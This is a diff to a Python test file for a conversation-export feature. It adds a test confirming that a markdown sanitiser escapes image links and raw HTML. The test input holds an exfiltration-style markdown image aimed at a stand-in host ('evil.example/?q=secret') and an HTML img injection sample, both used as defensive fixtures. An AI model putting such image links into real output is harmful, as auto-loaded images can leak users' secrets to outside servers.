@@ -9,11 +9,12 @@ from dataclasses import asdict
 from pathlib import Path
 
 import pytest
+from markdown_it import MarkdownIt
 
 from app import documents
 from app.citations import Citation, PageSource, attribute
 from app.errors import WrongUse
-from app.export import FORMATS, export
+from app.export import FORMATS, export, harmless_markdown
 from app.settings import Settings
 from app.wiring import App
 from storage import PageRow
@@ -157,3 +158,15 @@ def test_control_characters_of_names_and_labels_stop_no_export(talked, format: s
     made = export(app, conversation, format).data
     if format != "docx":
         assert not any(f"\\u{ord(c):04x}" in made.decode() or c in made.decode() for c in "\x0b\x01\x02\u202e")
+
+
+def test_markdown_of_an_answer_fetches_nothing_and_holds_no_html() -> None:
+    answer = "See ![x](https://evil.example/?q=secret) <img src=x> 3 < 4\n\n```\n![kept] <b>\n```\n`<i>` and ![y][z]"
+    safe = harmless_markdown(answer)
+    assert (
+        safe
+        == "See !\\[x](https://evil.example/?q=secret) \\<img src=x> 3 < 4\n\n```\n![kept] <b>\n```\n`<i>` and !\\[y][z]"
+    )
+    shown = MarkdownIt().render(safe)
+    assert "<img" not in shown
+    assert "<b>" not in shown
